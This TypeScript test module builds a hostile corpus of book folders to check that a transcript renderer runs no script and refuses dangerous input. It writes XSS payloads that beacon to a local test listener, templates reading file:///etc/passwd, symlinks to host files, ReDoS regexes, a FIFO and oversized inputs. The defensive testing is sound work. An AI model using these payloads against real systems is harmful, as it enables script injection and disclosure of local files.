// A hostile corpus: book folders as an attacker (or a broken export) would send them. Generated, not
// checked in, because some files must be symlinks, FIFOs or megabytes long, and every payload names
// the port of the test's own listener on 127.0.0.1 (test/hostile/listener.ts), so any request that
// gets out of the renderer is counted.
import { copyFileSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawn, spawnSync } from 'node:child_process';
import { projectRoot } from '../../scripts/render/templates.ts';
import { prng } from '../../scripts/core/random.ts';

export interface Ports { tcp: number; udp: number }

/**
 * Script that phones home every way a page can: fetch, an image, a WebSocket, a beacon, WebRTC (STUN
 * over UDP). Short enough for a title (≤ 300 characters), and it starts by closing whatever context it
 * lands in: `</style>`, `</script>`, `]]>`, quotes and a backslash.
 */
export function payload(p: Ports, tag = 'x'): string {
  const base = `127.0.0.1:${p.tcp}`;
  return `"'\\]]></style></script><script>fetch('//${base}/${tag}');new WebSocket('ws://${base}/${tag}');`
    + `new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${p.udp}'}]}).createOffer()</script><img src=//${base}/${tag}i>`;
}

/** What a page does when its script runs: every channel at once, for templates (no length limit). */
export function pageScript(p: Ports, tag: string): string {
  const base = `127.0.0.1:${p.tcp}`;
  return `<script>
fetch('http://${base}/${tag}-fetch').catch(() => {});
try { new WebSocket('ws://${base}/${tag}-ws'); } catch (e) {}
try { navigator.sendBeacon('http://${base}/${tag}-beacon', 'x'); } catch (e) {}
try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${p.udp}' }] }); pc.createDataChannel('x');
  pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}
</script>`;
}

const SEED = join(projectRoot, 'source/wangyi-2024-03-07');

/** The seed's transcript (about 20 pages: sections span pages, so running heads print). */
export function seedTranscript(): string {
  return readFileSync(join(SEED, 'transcript.txt'), 'utf8').replace(/\r\n/g, '\n').replace(/\n\s*\n/g, '\n\n');
}

function book(root: string, id: string, yaml: Record<string, unknown>, transcript: string): string {
  const dir = join(root, id);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'transcript.txt'), transcript);
  writeFileSync(join(dir, 'book.yaml'), Object.entries(yaml).map(([k, v]) => `${k}: ${JSON.stringify(v)}`).join('\n') + '\n');
  return dir;
}

const base = (id: string) => ({ id: `urn:transcript-press:hostile:${id}`, title: `敌意样书 ${id}`, speaker: '王毅', source: '新华社', date: '2024-03-07' });

/** A short, real-looking press conference: two questions, two answers. */
export function smallTranscript(title = '外交部长王毅答中外记者问'): string {
  return [title, '新华社北京3月7日电 十四届全国人大二次会议举行记者会。',
    '新华社记者：请问您如何看待中美关系的前景？', '王毅：中美关系要稳定发展，双方应当相向而行。我们始终坚持相互尊重、和平共处、合作共赢。',
    '彭博社记者：您对今年的外交工作有什么期待？', '王毅：我们将继续推动构建人类命运共同体，为世界和平与发展作出新的贡献。', ''].join('\n\n');
}

export interface HostileCorpus {
  root: string;
  /** Built with PDF and EPUB: their text must come out intact and nothing may run. */
  injection: { yamlStrings: string; transcriptText: string; ownTemplates: string };
  /** Built as EPUB (the PDF is not the point): must build. */
  builds: { catastrophicRegex: string };
  /** Must be refused up front with the given code. */
  refused: { dir: string; code: string }[];
}

export function hostileCorpus(root: string, ports: Ports): HostileCorpus {
  const p = (tag: string) => payload(ports, tag);
  // 1. Script in every string field of book.yaml (the schema's limits allow all of them).
  const yamlStrings = book(root, 'yaml-strings', {
    ...base('yaml'), id: `urn:x:${p('id')}`, title: p('title'), subtitle: p('subtitle'), source: p('source'),
    publisher: p('publisher'), description: p('description'), subjects: [p('subjects')], rights: p('rights'), edition: p('edition'),
  }, seedTranscript());
  // sections, topics and corrections are lists of maps: appended as YAML flow mappings.
  writeFileSync(join(yamlStrings, 'book.yaml'), readFileSync(join(yamlStrings, 'book.yaml'), 'utf8')
    + `sections: [{ question: 1, heading: ${JSON.stringify(p('heading'))} }, { question: 2, heading: ${JSON.stringify('a"b\\c</style>d]]>e')} }]\n`
    + `topics: [{ term: ${JSON.stringify(p('term'))}, aliases: ['中美关系'] }]\n`
    + `corrections: [{ find: '不拉偏架', replace: ${JSON.stringify(p('correction'))}, note: ${JSON.stringify(p('note'))} }]\n`
    // A page per section: the book title is then the head of the body's left-hand pages (sections that
    // run on share the transcript's own title line as their head, which is not book.yaml text).
    + `print: { sectionBreak: page }\n`);

  // 2. Script in the transcript: its title line, a speaker label, a question and an answer.
  const label = '</style><script>a=1</script>记者'; // a label is at most 30 characters, no spaces
  const seed = seedTranscript().split('\n\n');
  const transcriptText = book(root, 'transcript-text', base('text'), [
    p('tline'), ...seed.slice(1, 3), `${label}：${p('question')}中美关系的前景？`, `王毅：${p('answer')}双方应当相向而行。`, ...seed.slice(3)].join('\n\n'));

  // 3. The book's own templates and cover run script and load from the network.
  const ownTemplates = book(root, 'own-templates', base('templates'), seedTranscript());
  const tdir = join(ownTemplates, 'templates');
  mkdirSync(tdir);
  const defaults = join(projectRoot, 'templates/default');
  writeFileSync(join(tdir, 'print.html'), readFileSync(join(defaults, 'print.html'), 'utf8').replace('</head>',
    `${pageScript(ports, 'print')}\n<link rel="stylesheet" href="http://127.0.0.1:${ports.tcp}/print-css">\n</head>`)
    .replace('</body>', `<img src="http://127.0.0.1:${ports.tcp}/print-img"><iframe src="file:///etc/passwd"></iframe>`
      + `<object data="file:///etc/hostname"></object><img src="../../../../../../../etc/passwd">\n</body>`));
  writeFileSync(join(tdir, 'print.css'), `@import url("http://127.0.0.1:${ports.tcp}/import-css");\n`
    + `body { background: url("file:///etc/passwd"); }\n` + readFileSync(join(defaults, 'print.css'), 'utf8'));
  writeFileSync(join(tdir, 'cover.svg'), readFileSync(join(defaults, 'cover.svg'), 'utf8').replace('</svg>',
    `<script>fetch('http://127.0.0.1:${ports.tcp}/svg-fetch');new WebSocket('ws://127.0.0.1:${ports.tcp}/svg-ws');</script>`
    + `<image href="http://127.0.0.1:${ports.tcp}/svg-image" width="10" height="10"/><image href="file:///etc/passwd" width="10" height="10"/>\n</svg>`));

  // 4. A catastrophic regular expression against the run that makes a backtracking engine explode.
  const catastrophicRegex = book(root, 'catastrophic-regex', { ...base('regex') },
    smallTranscript().replace('合作共赢。', `合作共赢。${'a'.repeat(40)}!`));
  writeFileSync(join(catastrophicRegex, 'book.yaml'), readFileSync(join(catastrophicRegex, 'book.yaml'), 'utf8')
    + `topics:\n  - term: 合作\n    aliases: ['/(a+)+$/', '/(x+x+)+y/']\n`);

  const refused: { dir: string; code: string }[] = [];
  // 5. A transcript that is a link to a host file, and a template that is one.
  const linked = book(root, 'symlinked-transcript', base('link'), '');
  spawnSync('rm', [join(linked, 'transcript.txt')]);
  symlinkSync('/etc/passwd', join(linked, 'transcript.txt'));
  refused.push({ dir: linked, code: 'TP070' });
  const linkedTemplate = book(root, 'symlinked-template', base('tlink'), smallTranscript());
  mkdirSync(join(linkedTemplate, 'templates'));
  symlinkSync('/etc/hostname', join(linkedTemplate, 'templates', 'print.css'));
  refused.push({ dir: linkedTemplate, code: 'TP070' });
  // 6. A FIFO where the transcript should be: reading it would wait forever.
  const fifo = book(root, 'fifo-transcript', base('fifo'), '');
  spawnSync('rm', [join(fifo, 'transcript.txt')]);
  spawnSync('mkfifo', [join(fifo, 'transcript.txt')]);
  refused.push({ dir: fifo, code: 'TP071' });
  // 7. A 100,000-character title (killed Node with a heap overflow).
  refused.push({ dir: book(root, 'huge-title', { ...base('title'), title: '题'.repeat(100_000) }, smallTranscript()), code: 'TP011' });
  // 8. 100,000 short paragraphs (2.8 MB, far under the 20 MB limit): refused up front, not after minutes.
  const paragraphs = Array.from({ length: 100_000 }, (_, i) => `${i % 2 ? '王毅' : '新华社记者'}：第${i}段话。`);
  refused.push({ dir: book(root, 'many-paragraphs', base('paras'), ['十万段', ...paragraphs, ''].join('\n\n')), code: 'TP073' });
  // 9. One 5 MB line (1.7 million characters in one paragraph: Chromium could not lay it out in 120 s).
  refused.push({ dir: oneLongLine(root), code: 'TP073' });
  return { root, injection: { yamlStrings, transcriptText, ownTemplates }, builds: { catastrophicRegex }, refused };
}

/**
 * One 5 MB line (under the 20 MB limit): real sentences from the seed in a seeded random order, so the
 * reader's repeat repair does not shrink it to one sentence.
 */
export function oneLongLine(root: string, megabytes = 5): string {
  const text = readFileSync(join(SEED, 'transcript.txt'), 'utf8');
  const paras = text.split(/\n\s*\n/).map((s) => s.trim()).filter((s) => s && !/^[^：:]{1,20}[：:]/.test(s)).slice(2);
  const rand = prng(7);
  const parts: string[] = [];
  let size = 0;
  let last = -1;
  while (size < megabytes * 1024 * 1024) {
    let i = Math.floor(rand() * paras.length);
    if (i === last) i = (i + 1) % paras.length;
    last = i;
    parts.push(paras[i]!);
    size += Buffer.byteLength(paras[i]!);
  }
  const dir = book(root, 'one-long-line', base('line'), `一行的书\n\n${parts.join('')}\n`);
  copyFileSync(join(SEED, 'book.yaml'), join(dir, 'seed.yaml.txt')); // an unrelated file: ignored
  return dir;
}

/** A finished command: its exit code, what it printed, and how long it ran. */
export interface Ran { code: number | null; out: string; err: string; ms: number }

/** Runs a command to its end without blocking the test process; killed after `timeoutMs`. */
export function runProcess(cmd: string, args: string[], timeoutMs: number): Promise<Ran> {
  return new Promise((resolve) => {
    const t0 = Date.now();
    const child = spawn(cmd, args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.on('data', (c) => { out += c; });
    child.stderr.on('data', (c) => { err += c; });
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.on('close', (code) => { clearTimeout(timer); resolve({ code, out, err, ms: Date.now() - t0 }); });
  });
}
